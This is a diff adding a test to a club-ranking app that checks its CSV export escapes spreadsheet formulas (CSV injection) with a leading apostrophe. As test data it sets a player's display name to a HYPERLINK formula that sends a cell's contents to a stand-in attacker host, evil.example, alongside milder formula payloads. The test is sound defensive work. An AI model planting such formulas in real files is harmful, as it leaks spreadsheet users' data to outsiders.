@@ -171,3 +171,23 @@ def test_the_query_count_is_the_same_for_4_and_12_players(
             assert response.status_code == 200
             counts.append(len(queries))
     assert counts[0] == counts[2] and counts[1] == counts[3] and counts[0] <= 5
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(rc, api_client):
+    """A player named ``=HYPERLINK(...)`` in a public club's ranking was written as it is: a
+    formula in every spreadsheet that opens the file (OWASP's CSV injection). Text cells
+    beginning with = + - @ get a leading apostrophe; negative numbers stay numbers."""
+    from clubs.models import Membership, Player
+
+    names = {"Bob": "@SUM(1+1)", "Dan": "+1-2", "Eve": "-Eve"}
+    for old, new in names.items():
+        Player.objects.filter(name=old).update(name=new)
+    annie = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    Membership.objects.filter(display_name="Annie").update(display_name=annie)
+    response = api_client.get(url(rc.club, f"{MARCH_QUERY}&sort=total&format=csv"))
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    expected = ["Cai", "'" + annie, *("'" + n for n in names.values())]
+    assert sorted(r["name"] for r in rows) == sorted(expected)
+    # every total is still a number, the losers' negative ones included
+    assert all(int(r["total"]) == int(r["total"].lstrip("'")) for r in rows)
+    assert any(r["total"].startswith("-") for r in rows)
